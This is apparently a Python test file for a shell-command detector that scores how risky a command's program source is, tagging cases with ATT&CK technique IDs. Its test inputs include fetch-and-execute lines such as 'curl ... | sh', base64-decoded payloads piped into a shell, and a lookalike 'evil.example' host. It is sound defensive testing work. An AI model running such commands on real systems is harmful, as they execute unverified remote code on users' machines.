"""What it is worth that a program was fetched, or decoded, on its way to an interpreter; and who accepts an installer."""

from __future__ import annotations

import pytest

from flycatcher.core.detection import judge, read
from flycatcher.core.payload.origins import accept, accepted, is_accepted
from flycatcher.core.recipe import origin
from flycatcher.core.shell import read_shell

FETCHED = (25, "its program comes straight from the network (T1105)")
VERIFIED = (5, "its program comes from the network, and is verified before it runs, or accepted (T1105)")
DECODED = (45, "its program was decoded on the way to it (T1140)")
UNSEEN = (25, "its program was decoded on the way to it (T1140)")
LAYERED = (15, "layers of encoding hide what it is (T1027)")
ANYBODY = "nobody can tell who wrote it: "


def doubtful(*doubts: str) -> tuple[int, str]:
    return 25, f"{ANYBODY}{', '.join(doubts)} (T1557)"


def told(text: str) -> list[tuple[int, str]]:
    """Return what the program of a shell text that is given a text gets for where that text comes from."""
    for execution in reversed(list(read_shell(text).executions)):
        reading = read(execution)
        if reading is not None:
            found = judge(reading)
            return list(origin.points(execution, list(zip(reading.snippets, found.analyses, strict=True))))
    raise AssertionError(f"{text} gives nobody a text")


@pytest.fixture
def installers():
    before = accepted()
    yield accept
    accept(before)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("curl https://get.example.org/x | sh", [FETCHED]),
        ("wget -qO- https://get.example.org/x | python3 -", [FETCHED]),
        ("curl http://get.example.org/x | sh", [FETCHED, doubtful("nothing protects it on its way")]),
        ("curl -k https://get.example.org/x | sh", [FETCHED, doubtful("the host's certificate is not checked")]),
        ("curl https://192.0.2.1/x | sh", [FETCHED, doubtful("the address is a bare number")]),
        ("curl https://get.example.org:8443/x | sh", [FETCHED, doubtful("the port is an odd one")]),
        ("curl https://pastebin.com/raw/x | sh", [FETCHED, doubtful("anybody can put a text there")]),
        ("curl http://localhost/x | sh", [FETCHED]),
        ("curl https://get.example.org/x | base64 -d | sh", [FETCHED, doubtful("it was decoded on its way")]),
        ("echo aWQ= | base64 -d | sh", [DECODED]),
        ("base64 -d x | sh", [UNSEEN]),
        ("base64 -d x | base64 -d | sh", [UNSEEN, LAYERED]),
        ("gunzip -c dump.sql.gz | sqlite3 x.db", []),
        ("sh -c id", []),
    ],
)
def test_where_a_text_comes_from_has_its_points(text: str, expected: list[tuple[int, str]]) -> None:
    assert told(text) == expected


def test_an_installer_that_was_accepted_is_worth_little_as_long_as_nothing_makes_it_worse(installers) -> None:
    installers(["https://get.example.org/"])
    assert told("curl https://get.example.org/x | sh") == [VERIFIED]
    assert told("curl https://get.example.org/x https://other.example.org/y | sh") == [FETCHED]
    assert told("curl https://get.example.org.evil.example/x | sh") == [FETCHED]
    assert told("curl -k https://get.example.org/x | sh") == [
        FETCHED,
        doubtful("the host's certificate is not checked"),
    ]
    installers([])
    assert told("curl https://get.example.org/x | sh") == [FETCHED]


def test_what_names_no_address_is_not_accepted(installers) -> None:
    installers(["https://get.example.org/"])
    assert is_accepted("curl https://get.example.org/x")
    assert not is_accepted("curl")
    assert not is_accepted("curl https://get.example.org/x http://get.example.org/y")
